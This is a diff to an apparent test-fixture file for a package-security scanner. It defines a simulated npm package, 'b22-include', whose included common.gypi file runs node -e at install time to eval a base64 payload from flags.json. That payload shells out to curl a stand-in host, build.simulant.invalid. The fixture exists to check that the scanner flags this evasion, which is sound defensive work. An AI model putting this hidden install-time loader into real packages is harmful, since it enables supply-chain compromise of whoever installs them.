@@ -2,7 +2,12 @@ import { base64, hex } from './encode.ts';
 import { armed, finding, fires, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';
 
 const inBuild = { phase: ['install'] } as const;
-const effect = finding('install.build-effect', 'high', ['process.exec', ['net.connect', 'net.dns', 'net.http', 'file.write']], inBuild);
+const effect = finding(
+  'install.build-effect',
+  'high',
+  ['process.exec', ['net.connect', 'net.dns', 'net.http', 'file.write']],
+  inBuild,
+);
 const fixture = finding('exec.fixture-to-exec', 'high', ['file.read', 'file.write', 'process.exec'], inBuild);
 const addon = text`
   #include <node_api.h>
@@ -63,16 +68,20 @@ export const build: readonly Simulant[] = [
     kind: 'evasion',
     form: 'heavy',
     packages: [
-      pkg('b22-include', {
-        'binding.gyp': `{ "includes": ["common.gypi"], "targets": [{ "target_name": "columns", "sources": ["addon.c"] }] }\n`,
-        'common.gypi': `{ "variables": { "flags%": "<!(node -e \\"eval(Buffer.from(require('./flags.json').v,'base64')+'')\\")" } }\n`,
-        'flags.json': JSON.stringify({
-          v: base64(
-            "require('@assay-simulant/latch');require('child_process').execFileSync('sh',['-c','curl -fs -m 3 -o /dev/null http://build.simulant.invalid/i||true'],{env:{}});console.log('-O2')",
-          ),
-        }),
-        'addon.c': addon,
-      }, { dependencies: { '@assay-simulant/latch': '1.0.0' } }),
+      pkg(
+        'b22-include',
+        {
+          'binding.gyp': `{ "includes": ["common.gypi"], "targets": [{ "target_name": "columns", "sources": ["addon.c"] }] }\n`,
+          'common.gypi': `{ "variables": { "flags%": "<!(node -e \\"require('@assay-simulant/latch');eval(Buffer.from(require('./flags.json').v,'base64')+'')\\")" } }\n`,
+          'flags.json': JSON.stringify({
+            v: base64(
+              "require('child_process').execFileSync('sh',['-c','curl -fs -m 3 -o /dev/null http://build.simulant.invalid/i||true'],{env:{}});console.log('-O2')",
+            ),
+          }),
+          'addon.c': addon,
+        },
+        { dependencies: { '@assay-simulant/latch': '1.0.0' } },
+      ),
     ],
     expect: fires('suspicious', [effect]),
     note: 'Variable of an included file, base64 in JSON, curl without environment.',
